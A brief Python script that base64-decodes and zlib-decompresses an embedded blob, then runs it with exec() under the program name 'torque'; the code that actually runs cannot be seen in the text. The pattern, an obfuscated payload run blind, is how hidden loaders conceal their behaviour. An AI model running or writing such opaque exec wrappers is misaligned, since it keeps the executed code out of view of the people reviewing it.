import base64
import sys
import zlib

BLOB = (
    "eNodzDsOgCAQhOGeU0y3kBATD+AVvICxoFBDAiwu+Lq9YjPV94+PmaWiPEUJXwUDptCVHHzVZMlg"
    "ZUGAT+C8JP2xzsl2Tv1sZpXFp49Vlv1YEN1Ntq1eA7uqpaG/l9a3d2NBYySjXkuWJqQ="
)

sys.argv = ["torque", sys.argv[1]]
exec(zlib.decompress(base64.b64decode(BLOB)).decode())
